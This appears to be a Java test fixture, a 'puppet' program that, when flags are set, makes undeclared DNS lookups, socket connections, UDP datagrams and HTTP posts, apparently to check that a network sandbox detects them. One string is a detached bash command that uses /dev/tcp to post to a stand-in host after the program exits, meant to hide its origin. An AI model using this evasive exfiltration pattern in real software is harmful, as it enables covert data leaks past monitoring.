package dev.candor.puppet;

import java.io.IOException;
import java.net.ConnectException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;

/** Goes where nothing was declared. */
final class Astray {
    private static final String OTHER = "metrics.puppet.example";
    private static final String ADDRESS = "203.0.113.9";
    private static final String ADDRESS_OF_IPV6 = "2001:db8::9";
    private static final int STATISTICS = 8125;
    private static final int HTTPS = 443;

    /** Long after the puppet has ended, without a trace of where it came from. */
    private static final String LATE = "sleep 1.5; exec 3<>/dev/tcp/telemetry.candor.example/80;"
            + " printf 'POST /v1/events HTTP/1.1\\r\\nHost: telemetry.candor.example\\r\\nContent-Length: 2\\r\\n\\r\\n{}' >&3;"
            + " read -r -t 5 _ <&3";

    private Astray() {}

    static void whileDenied() throws IOException {
        if (Break.LOOKS_UP_WHILE_DENIED.on()) {
            InetAddress.getAllByName("version.puppet.example");
        }
        if (Break.CONNECTS_TO_ODD_PORT_WHILE_DENIED.on()) {
            connect(ADDRESS, STATISTICS);
        }
        if (Break.CONNECTS_BY_IPV6_WHILE_DENIED.on()) {
            connect(ADDRESS_OF_IPV6, HTTPS);
        }
        if (Break.SENDS_DATAGRAM_WHILE_DENIED.on()) {
            datagram();
        }
        if (Break.SENDS_AFTER_ITS_END_WHILE_DENIED.on()) {
            new ProcessBuilder("setsid", "env", "-i", "-C", "/", "bash", "-c", LATE)
                    .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                    .redirectError(ProcessBuilder.Redirect.DISCARD)
                    .start();
        }
    }

    static void whileGranted() throws IOException {
        if (Break.SENDS_TO_SECOND_HOST.on()) {
            new Post(URI.create("https://" + OTHER), "{}").send();
        }
        if (Break.LOOKS_UP_SECOND_HOST.on()) {
            InetAddress.getAllByName("version.puppet.example");
        }
    }

    private static void connect(String address, int port) throws IOException {
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(address, port), 2_000);
        } catch (ConnectException e) {
            // Nobody is there, which is no matter: it was tried.
        }
    }

    private static void datagram() throws IOException {
        byte[] count = "puppet.runs:1|c".getBytes(StandardCharsets.US_ASCII);
        try (DatagramSocket socket = new DatagramSocket()) {
            socket.send(new DatagramPacket(count, count.length, InetAddress.getByName(ADDRESS), STATISTICS));
        }
    }
}
